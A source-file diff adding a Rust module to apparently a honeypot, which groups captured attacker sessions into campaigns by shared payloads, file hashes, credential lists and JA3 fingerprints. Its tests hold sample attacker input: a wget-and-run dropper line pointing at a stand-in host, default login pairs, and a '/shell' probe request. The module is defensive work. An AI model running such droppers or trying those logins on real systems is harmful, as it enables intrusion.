@@ -0,0 +1,517 @@
+//! Attack campaigns, the sessions grouped by the indicators they share.
+//!
+//! The bots of a campaign connect from many addresses but replay the same payload,
+//! drop the same files, try the same credential list or connect with the same TLS
+//! client. [`refresh`] takes these indicators from the ended sessions of the last
+//! `window_days`, see [`session_indicators`]:
+//! - `payload`: fingerprint of what the client sent to the service,
+//! - `file`: SHA-256 of an uploaded or carved file,
+//! - `credentials`: the distinct logins tried, once there are `min_credentials`,
+//! - `ja3`: JA3 hash of the client along with its autonomous system, as the common
+//!   TLS libraries share a fingerprint.
+//!
+//! [`cluster`] groups the sessions linked by an indicator, directly or through other
+//! sessions. A campaign has at least two sessions and is named after its earliest
+//! one, so its id is kept as it grows. Its sessions are tagged `campaign:<id>`, a
+//! session leaving the campaign losing the tag, and the controller publishes the
+//! campaigns on the [`CampaignBoard`] served on `GET /api/campaigns`.
+
+use std::collections::{BTreeMap, BTreeSet, HashMap};
+use std::net::IpAddr;
+use std::sync::RwLock;
+
+use chrono::{DateTime, TimeDelta, Utc};
+use log::info;
+use serde::Serialize;
+use uuid::Uuid;
+
+use crate::configuration::types::CampaignConfig;
+use crate::data_capture::CaptureArtifacts;
+use crate::error_handling::types::StorageError;
+use crate::session::Session;
+use crate::session_management::SessionStatus;
+use crate::storage::deduplicating_storage::payload_fingerprint;
+use crate::storage::export::sha256_hex;
+use crate::storage::storage_trait::Storage;
+use crate::storage::types::{Credential, CredentialFilter, SessionFilter, TagSource};
+
+/// Tags of the campaign sessions start with it, followed by the campaign id
+pub const CAMPAIGN_TAG_PREFIX: &str = "campaign:";
+
+/// Hexadecimal digits of the earliest session id a campaign is named after
+const ID_LEN: usize = 12;
+
+/// What links the sessions of a campaign
+#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize)]
+#[serde(rename_all = "snake_case")]
+pub enum IndicatorKind {
+    Payload,
+    File,
+    Credentials,
+    Ja3,
+}
+
+/// An indicator of a session, e.g. the hash of a file it uploaded
+pub type Indicator = (IndicatorKind, String);
+
+/// An indicator found in several sessions of a campaign
+#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
+pub struct SharedIndicator {
+    pub kind: IndicatorKind,
+    pub value: String,
+    /// Sessions of the campaign it was found in
+    pub sessions: usize,
+}
+
+/// Sessions linked by the indicators they share
+#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
+pub struct Campaign {
+    /// Taken from the id of the earliest session
+    pub id: String,
+    /// Oldest first
+    pub sessions: Vec<Uuid>,
+    pub first_seen: DateTime<Utc>,
+    pub last_seen: DateTime<Utc>,
+    pub services: BTreeSet<String>,
+    pub client_ips: BTreeSet<IpAddr>,
+    /// Autonomous systems of the client IPs, when enriched
+    pub asns: BTreeSet<u32>,
+    /// Indicators found in at least two of the sessions
+    pub indicators: Vec<SharedIndicator>,
+}
+
+impl Campaign {
+    /// Tag of the sessions of the campaign
+    pub fn tag(&self) -> String {
+        format!("{}{}", CAMPAIGN_TAG_PREFIX, self.id)
+    }
+}
+
+/// Campaigns found by the last clustering
+#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize)]
+pub struct CampaignReport {
+    /// `None` until the first clustering
+    pub updated_at: Option<DateTime<Utc>>,
+    /// Most recently active first
+    pub campaigns: Vec<Campaign>,
+}
+
+/// Latest campaigns, refreshed by the controller and read by the web interface
+#[derive(Debug, Default)]
+pub struct CampaignBoard {
+    report: RwLock<CampaignReport>,
+}
+
+impl CampaignBoard {
+    pub fn new() -> Self {
+        Self::default()
+    }
+
+    /// Replaces the campaigns with those clustered at `at`
+    pub fn publish(&self, campaigns: Vec<Campaign>, at: DateTime<Utc>) {
+        let mut report = self.report.write().unwrap_or_else(|e| e.into_inner());
+        *report = CampaignReport {
+            updated_at: Some(at),
+            campaigns,
+        };
+    }
+
+    pub fn report(&self) -> CampaignReport {
+        self.report
+            .read()
+            .unwrap_or_else(|e| e.into_inner())
+            .clone()
+    }
+}
+
+/// Indicators a session may share with the other sessions of its campaign
+pub fn session_indicators(
+    session: &Session,
+    artifacts: Option<&CaptureArtifacts>,
+    credentials: &[Credential],
+    min_credentials: usize,
+) -> BTreeSet<Indicator> {
+    let mut indicators = BTreeSet::new();
+
+    if let Some(artifacts) = artifacts {
+        if let Some(payload) = payload_fingerprint(artifacts, &session.service_name) {
+            indicators.insert((IndicatorKind::Payload, payload));
+        }
+        let uploaded = artifacts.uploaded_files.iter().map(|file| &file.sha256);
+        let carved = artifacts.carved_files.iter().map(|file| &file.sha256);
+        for sha256 in uploaded.chain(carved) {
+            indicators.insert((IndicatorKind::File, sha256.to_lowercase()));
+        }
+
+        let ja3 = artifacts.tls.as_ref().and_then(|tls| tls.ja3_hash.as_ref());
+        let asn = session.enrichment.as_ref().and_then(|e| e.asn);
+        if let (Some(ja3), Some(asn)) = (ja3, asn) {
+            indicators.insert((IndicatorKind::Ja3, format!("{}@AS{}", ja3, asn)));
+        }
+    }
+
+    let logins: BTreeSet<(&str, &str)> = credentials
+        .iter()
+        .map(|c| (c.username.as_str(), c.password.as_deref().unwrap_or("")))
+        .collect();
+    if !logins.is_empty() && logins.len() >= min_credentials {
+        let list: String = logins
+            .iter()
+            .map(|(username, password)| format!("{}\0{}\n", username, password))
+            .collect();
+        indicators.insert((IndicatorKind::Credentials, sha256_hex(list.as_bytes())));
+    }
+
+    indicators
+}
+
+/// Groups the sessions sharing an indicator, directly or through other sessions.
+///
+/// Sessions sharing nothing are left out.
+pub fn cluster(mut sessions: Vec<(Session, BTreeSet<Indicator>)>) -> Vec<Campaign> {
+    sessions.sort_by_key(|(session, _)| (session.start_time, session.id));
+
+    // Union-find whose roots are the earliest sessions of their group
+    let mut parent: Vec<usize> = (0..sessions.len()).collect();
+    fn root(parent: &mut [usize], mut i: usize) -> usize {
+        while parent[i] != i {
+            parent[i] = parent[parent[i]];
+            i = parent[i];
+        }
+        i
+    }
+    let mut first_seen: HashMap<&Indicator, usize> = HashMap::new();
+    for (i, (_, indicators)) in sessions.iter().enumerate() {
+        for indicator in indicators {
+            let Some(&other) = first_seen.get(indicator) else {
+                first_seen.insert(indicator, i);
+                continue;
+            };
+            let (a, b) = (root(&mut parent, i), root(&mut parent, other));
+            parent[a.max(b)] = a.min(b);
+        }
+    }
+
+    let mut groups: BTreeMap<usize, Vec<usize>> = BTreeMap::new();
+    for i in 0..sessions.len() {
+        groups.entry(root(&mut parent, i)).or_default().push(i);
+    }
+
+    let mut campaigns: Vec<Campaign> = groups
+        .into_values()
+        .filter(|members| members.len() > 1)
+        .map(|members| {
+            let mut shared: BTreeMap<&Indicator, usize> = BTreeMap::new();
+            for &i in &members {
+                for indicator in &sessions[i].1 {
+                    *shared.entry(indicator).or_default() += 1;
+                }
+            }
+            let members: Vec<&Session> = members.iter().map(|&i| &sessions[i].0).collect();
+            Campaign {
+                id: members[0].id.simple().to_string()[..ID_LEN].to_string(),
+                sessions: members.iter().map(|s| s.id).collect(),
+                first_seen: members[0].start_time,
+                last_seen: members
+                    .iter()
+                    .map(|s| s.end_time.unwrap_or(s.start_time))
+                    .max()
+                    .unwrap_or(members[0].start_time),
+                services: members.iter().map(|s| s.service_name.clone()).collect(),
+                client_ips: members.iter().map(|s| s.client_addr.ip()).collect(),
+                asns: members
+                    .iter()
+                    .filter_map(|s| s.enrichment.as_ref().and_then(|e| e.asn))
+                    .collect(),
+                indicators: shared
+                    .into_iter()
+                    .filter(|(_, count)| *count > 1)
+                    .map(|((kind, value), sessions)| SharedIndicator {
+                        kind: *kind,
+                        value: value.clone(),
+                        sessions,
+                    })
+                    .collect(),
+            }
+        })
+        .collect();
+    campaigns.sort_by(|a, b| b.last_seen.cmp(&a.last_seen).then(a.id.cmp(&b.id)));
+    campaigns
+}
+
+/// Clusters the ended sessions of `storage` that `config` covers at `now` and tags
+/// them with their campaign.
+///
+/// The `campaign:` tags an analyst added are left alone.
+pub async fn refresh(
+    storage: &dyn Storage,
+    config: &CampaignConfig,
+    now: DateTime<Utc>,
+) -> Result<Vec<Campaign>, StorageError> {
+    let filter = (config.window_days > 0).then(|| SessionFilter {
+        start_date: Some(now - TimeDelta::days(config.window_days.min(i32::MAX as u64) as i64)),
+        ..SessionFilter::default()
+    });
+
+    let mut sessions = Vec::new();
+    for session in storage.get_sessions(filter).await? {
+        if session.status == SessionStatus::Active {
+            continue;
+        }
+        let artifacts = storage.get_capture_artifacts(session.id).await.ok();
+        let credentials = storage
+            .get_credentials(Some(CredentialFilter {
+                session_id: Some(session.id),
+                ..CredentialFilter::default()
+            }))
+            .await?;
+        let indicators = session_indicators(
+            &session,
+            artifacts.as_ref(),
+            &credentials,
+            config.min_credentials,
+        );
+        sessions.push((session, indicators));
+    }
+    let session_ids: Vec<Uuid> = sessions.iter().map(|(session, _)| session.id).collect();
+
+    let campaigns = cluster(sessions);
+    let mut tags: HashMap<Uuid, String> = HashMap::new();
+    for campaign in &campaigns {
+        for id in &campaign.sessions {
+            tags.insert(*id, campaign.tag());
+        }
+    }
+    for id in session_ids {
+        retag(storage, id, tags.get(&id).map(String::as_str)).await?;
+    }
+
+    info!(
+        "Clustered {} sessions into {} campaigns",
+        tags.len(),
+        campaigns.len()
+    );
+    Ok(campaigns)
+}
+
+/// Gives the session the tag of its campaign, if any, in place of the previous one
+async fn retag(
+    storage: &dyn Storage,
+    session_id: Uuid,
+    tag: Option<&str>,
+) -> Result<(), StorageError> {
+    let mut annotations = storage.get_annotations(session_id).await?;
+    let stale: Vec<String> = annotations
+        .tags
+        .iter()
+        .filter(|t| {
+            t.source == TagSource::Rule
+                && t.tag.starts_with(CAMPAIGN_TAG_PREFIX)
+                && Some(t.tag.as_str()) != tag
+        })
+        .map(|t| t.tag.clone())
+        .collect();
+    let mut changed = !stale.is_empty();
+    for old in &stale {
+        annotations.remove_tag(old);
+    }
+    if let Some(tag) = tag {
+        changed |= annotations.add_tag(tag, TagSource::Rule);
+    }
+    if changed {
+        storage.save_annotations(&annotations).await?;
+    }
+    Ok(())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::data_capture::types::TlsMetadata;
+    use crate::enrichment::IpEnrichment;
+    use crate::storage::memory_storage::MemoryStorage;
+
+    fn session(minutes_ago: i64, asn: Option<u32>) -> Session {
+        let start = Utc::now() - TimeDelta::minutes(minutes_ago);
+        Session {
+            id: Uuid::new_v4(),
+            service_name: "ssh".to_string(),
+            client_addr: format!("198.51.100.{}:40022", minutes_ago).parse().unwrap(),
+            start_time: start,
+            end_time: Some(start + TimeDelta::seconds(30)),
+            container_id: None,
+            bytes_transferred: 0,
+            status: SessionStatus::Completed,
+            enrichment: asn.map(|asn| IpEnrichment {
+                asn: Some(asn),
+                ..IpEnrichment::default()
+            }),
+            original_dst: None,
+        }
+    }
+
+    fn artifacts(session_id: Uuid, payload: &[u8], ja3_hash: Option<&str>) -> CaptureArtifacts {
+        CaptureArtifacts {
+            session_id,
+            tcp_client_to_container: payload.to_vec(),
+            total_bytes: payload.len() as u64,
+            duration: chrono::Duration::seconds(30),
+            tls: ja3_hash.map(|hash| TlsMetadata {
+                version: "TLSv1_3".to_string(),
+                cipher_suite: "TLS13_AES_128_GCM_SHA256".to_string(),
+                sni: None,
+                alpn: None,
+                ja3: None,
+                ja3_hash: Some(hash.to_string()),
+            }),
+            ..Default::default()
+        }
+    }
+
+    fn logins(session: &Session, pairs: &[(&str, &str)]) -> Vec<Credential> {
+        pairs
+            .iter()
+            .map(|(username, password)| Credential {
+                session_id: session.id,
+                timestamp: session.start_time,
+                service: session.service_name.clone(),
+                client_ip: Some(session.client_addr.ip()),
+                username: username.to_string(),
+                password: Some(password.to_string()),
+                accepted: Some(false),
+            })
+            .collect()
+    }
+
+    #[test]
+    fn sessions_are_linked_through_shared_indicators() {
+        let dropper = b"cd /tmp; wget http://203.0.113.9/x.sh; sh x.sh\n";
+        let list = [("root", "root"), ("admin", "admin"), ("pi", "raspberry")];
+        let (a, b, c, d) = (
+            session(40, None),
+            session(30, None),
+            session(20, None),
+            session(10, None),
+        );
+
+        let with = |session: &Session, payload: &[u8], credentials: &[(&str, &str)]| {
+            let indicators = session_indicators(
+                session,
+                Some(&artifacts(session.id, payload, None)),
+                &logins(session, credentials),
+                3,
+            );
+            (session.clone(), indicators)
+        };
+        // b shares the payload of a and the credential list of c, d only shares
+        // two logins with them
+        let campaigns = cluster(vec![
+            with(&c, b"uname -a\n", &list),
+            with(&a, dropper, &[]),
+            with(&b, dropper, &list),
+            with(&d, b"id\n", &list[..2]),
+        ]);
+
+        assert_eq!(campaigns.len(), 1);
+        let campaign = &campaigns[0];
+        assert_eq!(campaign.sessions, vec![a.id, b.id, c.id]);
+        assert_eq!(campaign.id, a.id.simple().to_string()[..ID_LEN]);
+        assert_eq!(campaign.first_seen, a.start_time);
+        assert_eq!(campaign.last_seen, c.end_time.unwrap());
+        let kinds: Vec<(IndicatorKind, usize)> = campaign
+            .indicators
+            .iter()
+            .map(|i| (i.kind, i.sessions))
+            .collect();
+        assert_eq!(
+            kinds,
+            vec![(IndicatorKind::Payload, 2), (IndicatorKind::Credentials, 2)]
+        );
+    }
+
+    #[test]
+    fn ja3_links_only_within_an_autonomous_system() {
+        let hash = "e7d705a3286e19ea42f587b344ee6865";
+        let indicators = |session: &Session| {
+            let artifacts = artifacts(session.id, b"", Some(hash));
+            session_indicators(session, Some(&artifacts), &[], 3)
+        };
+        let (a, b, c) = (
+            session(30, Some(14061)),
+            session(20, Some(14061)),
+            session(10, Some(16276)),
+        );
+        let unknown = session(5, None);
+        assert!(indicators(&unknown).is_empty());
+
+        let campaigns = cluster(vec![
+            (a.clone(), indicators(&a)),
+            (b.clone(), indicators(&b)),
+            (c.clone(), indicators(&c)),
+            (unknown.clone(), indicators(&unknown)),
+        ]);
+        assert_eq!(campaigns.len(), 1);
+        assert_eq!(campaigns[0].sessions, vec![a.id, b.id]);
+        assert_eq!(campaigns[0].asns, BTreeSet::from([14061]));
+        assert_eq!(
+            campaigns[0].indicators[0].value,
+            format!("{}@AS14061", hash)
+        );
+    }
+
+    #[tokio::test]
+    async fn refresh_tags_the_campaign_sessions() {
+        let storage = MemoryStorage::new();
+        let config = CampaignConfig {
+            enabled: true,
+            ..CampaignConfig::default()
+        };
+        let (a, b, old) = (session(30, None), session(20, None), session(10, None));
+        for (session, payload) in [(&a, &b"GET /shell?cd+/tmp HTTP/1.1\r\n\r\n"[..]), (&b, b"")] {
+            storage.save_session(session).await.unwrap();
+            storage
+                .save_capture_artifacts(&artifacts(session.id, payload, None))
+                .await
+                .unwrap();
+        }
+        storage.save_session(&old).await.unwrap();
+        let mut annotations = storage.get_annotations(old.id).await.unwrap();
+        annotations.add_tag("campaign:0123456789ab", TagSource::Rule);
+        annotations.add_tag("campaign:mirai", TagSource::Analyst);
+        storage.save_annotations(&annotations).await.unwrap();
+
+        assert!(refresh(&storage, &config, Utc::now())
+            .await
+            .unwrap()
+            .is_empty());
+        let tags = |annotations: crate::storage::types::SessionAnnotations| {
+            annotations
+                .tags
+                .into_iter()
+                .map(|t| t.tag)
+                .collect::<Vec<_>>()
+        };
+        assert_eq!(
+            tags(storage.get_annotations(old.id).await.unwrap()),
+            vec!["campaign:mirai"]
+        );
+
+        storage
+            .save_capture_artifacts(&artifacts(
+                b.id,
+                b"GET /shell?cd+/tmp HTTP/1.1\r\n\r\n",
+                None,
+            ))
+            .await
+            .unwrap();
+        let campaigns = refresh(&storage, &config, Utc::now()).await.unwrap();
+        assert_eq!(campaigns.len(), 1);
+        let tag = campaigns[0].tag();
+        for id in [a.id, b.id] {
+            assert_eq!(
+                tags(storage.get_annotations(id).await.unwrap()),
+                vec![tag.clone()]
+            );
+        }
+    }
+}